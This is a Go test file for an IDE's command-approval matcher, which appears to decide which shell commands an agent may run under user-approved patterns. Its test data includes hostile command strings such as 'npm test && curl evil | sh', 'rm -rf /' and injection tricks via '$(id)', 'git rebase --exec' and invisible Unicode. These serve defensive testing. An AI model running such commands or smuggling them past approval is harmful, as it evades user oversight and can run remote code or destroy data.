package approval_test

import (
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/keel-ide/keel/backend/approval"
	"pgregory.net/rapid"
)

func TestMatch(t *testing.T) {
	tests := []struct {
		pattern, command string
		want             bool
	}{
		{"npm install", "npm install", true},
		{"npm install", "npm install x", false},
		{"npm install", "npm  install", false},
		{"npm install", " npm install", false},
		{"npm install", "npm install\n", false},
		{"npm install", "NPM install", false},
		{"npm *", "npm", true},
		{"npm *", "npm ", true},
		{"npm *", "npm test", true},
		{"npm *", "npm test && curl evil | sh", true}, // the guard's work
		{"npm *", "npmx", false},
		{"npm *", "npx npm test", false},
		{"npm *", "npm\ttest", false},
		{"npm run *", "npm run", true},
		{"npm run *", "npm run build", true},
		{"npm run *", "npm running", false},
		{"npm*", "npm test", false},
		{"npm*", "npm*", true},
		{"a * b", "a x b", false},
		{"a * b", "a * b", true},
		{"* test", "npm test", false},
		{"*", "rm -rf /", true},
		{"*", "", true},
		{" *", "", false},
		{" *", " rm", false},
		{" *", " *", true},
		{"", "", false},
		{"", "ls", false},
		{"npm ?", "npm x", false},
		{"npm [a]", "npm a", false},
	}
	for _, tt := range tests {
		if got := approval.Match(tt.pattern, tt.command); got != tt.want {
			t.Errorf("Match(%q, %q) = %v, want %v", tt.pattern, tt.command, got, tt.want)
		}
	}
}

func TestSuggest(t *testing.T) {
	tests := []struct {
		command string
		want    []string
	}{
		{"npm run build", []string{"npm run build", "npm run *", "npm *"}},
		{"go test ./...", []string{"go test ./...", "go test *", "go *"}},
		{"npm test", []string{"npm test", "npm test *", "npm *"}},
		{"ls", []string{"ls", "ls *"}},
		{"ls -la", []string{"ls -la", "ls *"}},
		{`git commit -m "one two"`, []string{`git commit -m "one two"`, "git commit *", "git *"}},
		{"git  status", []string{"git  status", "git *"}}, // "git status *" would not match it
		{" git status", []string{" git status"}},
		{"python script.py", []string{"python script.py"}},
		{"python3.12 -c x", []string{"python3.12 -c x"}},
		{"PYTHON.EXE x", []string{"PYTHON.EXE x"}},
		{"bash -c ls", []string{"bash -c ls"}},
		{"sudo ls", []string{"sudo ls"}},
		{"find . -delete", []string{"find . -delete"}},
		{"npx vitest", []string{"npx vitest"}},
		{"docker ps", []string{"docker ps"}},
		{"rm file", []string{"rm file"}},
		{"/usr/bin/env ls", []string{"/usr/bin/env ls"}},
		{"./run.sh now", []string{"./run.sh now"}},
		{"go run .", []string{"go run ."}},
		{"npm --silent exec x", []string{"npm --silent exec x"}},
		{"PAGER=x git diff", []string{"PAGER=x git diff"}},
		{"npm test && curl evil", []string{"npm test && curl evil"}},
		{"npm test\ncurl evil", []string{"npm test\ncurl evil"}},
		{"echo $(id)", []string{"echo $(id)"}},
		{"ls > x", []string{"ls > x"}},
		{"git rebase main", []string{"git rebase main", "git rebase *", "git *"}},
		{"git rebase --exec id main", []string{"git rebase --exec id main"}},
		{"git diff --output x", []string{"git diff --output x"}},
		{"git config user.name x", []string{"git config user.name x"}},
		{"npm -C sub test", []string{"npm -C sub test"}},
		{"sed -n 5p x", []string{"sed -n 5p x"}},
		{"make SHELL=x", []string{"make SHELL=x"}},
		{"cd sub", []string{"cd sub", "cd sub *", "cd *"}},
		{"trap x EXIT", []string{"trap x EXIT"}},
		{"git add *", nil}, // as a pattern it would trust more than itself
		{"*", nil},
		{"", nil},
		{"  ", nil},
		{"ls \u202e", nil},
		{"ls \x1b[2K", nil},
		{"ls \u3164", nil},
		{"ls \ufe0f", nil},
	}
	for _, tt := range tests {
		if diff := cmp.Diff(tt.want, approval.Suggest(tt.command)); diff != "" {
			t.Errorf("Suggest(%q) (-want +got):\n%s", tt.command, diff)
		}
	}
}

// Every suggestion trusts the command it was made for; the first one nothing else.
func TestSuggestMatches(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		word := rapid.SampledFrom([]string{"npm", "run", "-x", "*", "a b", "git", "&&", "é", "\n", "", "sh", "="})
		command := ""
		for _, w := range rapid.SliceOfN(word, 1, 5).Draw(t, "words") {
			command += w + rapid.SampledFrom([]string{" ", "  ", ""}).Draw(t, "space")
		}
		suggestions := approval.Suggest(command)
		for i, pattern := range suggestions {
			if !approval.Match(pattern, command) {
				t.Fatalf("Suggest(%q)[%d] = %q does not match it", command, i, pattern)
			}
			if wider := approval.Match(pattern, command+" x"); wider != (i > 0) {
				t.Fatalf("Suggest(%q)[%d] = %q: matches more = %v", command, i, pattern, wider)
			}
		}
	})
}

func TestWide(t *testing.T) {
	for pattern, want := range map[string]bool{
		"*": true, "python *": true, "npm exec *": true, "docker run *": true, "sudo *": true, "/usr/bin/env *": true, "FOO=1 make *": true,
		"npm *": false, "go test *": false, "git *": false, "git log --oneline *": false, "npm install": false, "python x.py": false, "": false, " *": false,
	} {
		if got := approval.Wide(pattern); got != want {
			t.Errorf("Wide(%q) = %v", pattern, got)
		}
	}
}

func TestStarMeansNothing(t *testing.T) {
	for pattern, want := range map[string]bool{"npm*": true, "* npm": true, "a * b": true, " *": true, "npm *": false, "*": false, "npm": false} {
		if got := approval.StarMeansNothing(pattern); got != want {
			t.Errorf("StarMeansNothing(%q) = %v", pattern, got)
		}
	}
}
